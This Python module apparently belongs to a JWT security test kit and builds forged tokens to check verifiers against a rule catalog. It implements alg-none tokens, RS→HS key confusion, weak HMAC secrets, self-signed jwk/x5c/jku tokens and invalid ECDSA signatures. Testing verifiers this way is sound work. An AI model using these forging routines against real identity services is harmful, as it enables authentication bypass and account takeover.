"""Forging tokens: the attacker's side of the JWT catalog (JWT-01 … JWT-17).

Tokens the kit sends to break a rule come from two places: the mock IdP mints them with
presets and overrides (``POST /_mock/tokens``), or the kit builds them here from the
IdP's *published* keys and keys of its own, as an attacker would (RFC 8725 §2):

- re-encoding segments (``alg: none``, header or payload changed after signing,
  signature bytes flipped, non-canonical base64, duplicate JSON members);
- HMAC "signatures" keyed with the IdP's public key in PEM, DER or JWK form (RS→HS
  confusion, CVE-2016-10555) or with blank and dictionary secrets;
- tokens signed with the kit's own RSA or EC key, carrying that key (``jwk``, ``x5c``) or
  a URL to it (``jku``, ``x5u``);
- ECDSA signatures that are zero or out of range (CVE-2022-21449), and DER-encoded ones.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from joserfc import jws
from joserfc.jwk import ECKey, RSAKey

__all__ = [
    "P256_ORDER",
    "assemble",
    "attacker_ec_key",
    "attacker_rsa_key",
    "b64",
    "der_ecdsa",
    "encode",
    "hmac_token",
    "public_der",
    "public_pem",
    "self_signed_x5c",
    "sign",
    "split",
    "unb64",
]

#: The order n of the P-256 group (SEC 2 §2.4.2).
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def unb64(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def encode(value: Mapping[str, Any] | str) -> str:
    """A JSON segment: a mapping serialized compactly, or raw JSON text as given."""
    text = value if isinstance(value, str) else json.dumps(dict(value), separators=(",", ":"))
    return b64(text.encode("utf-8"))


def split(token: str) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    """Header, claims and signature bytes of a compact JWS the kit trusts."""
    head, body, signature = token.split(".")
    return json.loads(unb64(head)), json.loads(unb64(body)), unb64(signature)


def assemble(
    header: Mapping[str, Any] | str, claims: Mapping[str, Any] | str, signature: bytes | str
) -> str:
    """A compact JWS from its parts (``signature`` as bytes, or an encoded segment)."""
    tail = signature if isinstance(signature, str) else b64(signature)
    return f"{encode(header)}.{encode(claims)}.{tail}"


def hmac_token(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes) -> str:
    """An HS256 token keyed with ``secret`` (``header`` gets ``alg: HS256``)."""
    signing_input = f"{encode({**header, 'alg': 'HS256'})}.{encode(claims)}"
    mac = hmac.new(secret, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{b64(mac)}"


def attacker_rsa_key(kid: str = "proctor-attacker-rsa") -> RSAKey:
    return RSAKey.generate_key(2048, parameters={"kid": kid})


def attacker_ec_key(kid: str = "proctor-attacker-ec") -> ECKey:
    return ECKey.generate_key("P-256", parameters={"kid": kid})


def sign(key: RSAKey | ECKey, header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    """A token signed by the kit's own ``key`` with exactly ``header`` (its ``alg``)."""
    payload = json.dumps(dict(claims), separators=(",", ":")).encode()
    return jws.serialize_compact(dict(header), payload, key, algorithms=[str(header["alg"])])


def _public_key(jwk: Mapping[str, Any]) -> rsa.RSAPublicKey | ec.EllipticCurvePublicKey:
    imported = (
        RSAKey.import_key(dict(jwk)) if jwk.get("kty") == "RSA" else ECKey.import_key(dict(jwk))
    )
    public = imported.public_key
    if not isinstance(public, rsa.RSAPublicKey | ec.EllipticCurvePublicKey):
        raise TypeError("only RSA and EC public keys are supported")
    return public


def public_pem(jwk: Mapping[str, Any]) -> bytes:
    """The published key as SubjectPublicKeyInfo PEM (what RS→HS exploits key HMAC with)."""
    return _public_key(jwk).public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def public_der(jwk: Mapping[str, Any]) -> bytes:
    return _public_key(jwk).public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def self_signed_x5c(key: RSAKey) -> str:
    """A self-signed certificate for ``key`` (base64 DER, as ``x5c`` carries it)."""
    private = key.private_key
    if not isinstance(private, rsa.RSAPrivateKey):
        raise TypeError("an RSA private key is needed")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "proctor attacker")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .sign(private, hashes.SHA256())
    )
    return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()


def der_ecdsa(raw: bytes) -> bytes:
    """A P1363 ``r || s`` ECDSA signature re-encoded as ASN.1 DER (JWT-09)."""
    half = len(raw) // 2
    r, s = int.from_bytes(raw[:half], "big"), int.from_bytes(raw[half:], "big")

    def integer(value: int) -> bytes:
        data = value.to_bytes(max(1, (value.bit_length() + 8) // 8), "big")
        return b"\x02" + bytes([len(data)]) + data

    body = integer(r) + integer(s)
    return b"\x30" + bytes([len(body)]) + body
